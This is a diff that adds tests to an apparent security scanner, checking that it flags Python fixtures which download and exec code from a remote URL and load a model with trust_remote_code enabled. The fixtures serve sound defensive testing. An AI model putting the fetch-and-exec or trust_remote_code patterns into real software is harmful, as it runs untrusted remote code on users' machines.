@@ -115,6 +115,39 @@ describe('a team on the command line', () => {
       assert.equal(line.run(['scan', '--diff', 'change']).code, 0);
     });
 
+    it('tells what a change in another file adds to a file that is as it was', () => {
+      git('checkout', '--quiet', 'main');
+      line.write('settings.py', 'TRUST = False\nREVISION = "main"\n');
+      const load = 'AutoModel.from_pretrained("acme/tiny", revision=REVISION, trust_remote_code=TRUST)';
+      const imports = 'from settings import REVISION, TRUST\nfrom transformers import AutoModel\n';
+      line.write('load.py', `${imports}\nmodel = ${load}\n`);
+      line.write('late.py', `from later import fetch\n\nexec(fetch())\n`);
+      git('add', '.');
+      git('commit', '--quiet', '--message=settings');
+      assert.deepEqual(told(), []);
+      line.write('settings.py', 'TRUST = True\nREVISION = "main"\n');
+      line.write(
+        'later.py',
+        'import requests\n\n\ndef fetch():\n    return requests.get("https://example.com/a.py").text\n',
+      );
+      assert.deepEqual(told(), [
+        ['late.py', 'remote-exec', 3],
+        ['load.py', 'trust-remote-code', 4],
+      ]);
+    });
+
+    it('tells what is wrong in settings when these changed', () => {
+      line.write('loadguard.jsonc', '{ "rules": { "no-such-rule": "error" } }\n');
+      assert.deepEqual(told(), [['loadguard.jsonc', 'invalid-config', 1]]);
+      git('add', '.');
+      git('commit', '--quiet', '--message=settings');
+      line.write('b.py', LOAD);
+      assert.deepEqual(
+        scan('--diff', 'change').map(({ file }) => file),
+        ['b.py'],
+      );
+    });
+
     it('does not tell again what moved with its file', () => {
       git('mv', 'a.py', 'c.py');
       assert.deepEqual(told(), []);
